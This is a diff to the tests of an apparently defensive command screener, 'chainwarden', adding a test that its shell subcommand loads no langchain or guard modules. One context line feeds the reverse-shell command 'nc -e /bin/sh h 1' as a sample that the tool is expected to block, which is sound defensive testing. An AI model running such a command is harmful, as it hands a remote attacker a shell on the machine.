@@ -46,3 +46,15 @@ def test_human_output(capsys) -> None:
     assert run(["shell", "nc -e /bin/sh h 1"]) == 0
     out = capsys.readouterr().out
     assert "BLOCK" in out and "SA202" in out
+
+
+def test_shell_command_never_loads_langchain_or_other_guards() -> None:
+    """DESIGN: `chainwarden shell` imports only what it needs (fast start, small surface)."""
+    import subprocess
+
+    code = (
+        "import sys; from chainwarden.cli import main; main(['shell', '--json', 'ls']); "
+        "print(sorted(m for m in ('langchain', 'langgraph', 'authz', 'guards', 'chain', 'casbin') if m in sys.modules))"
+    )
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
+    assert out.strip().splitlines()[-1] == "[]"
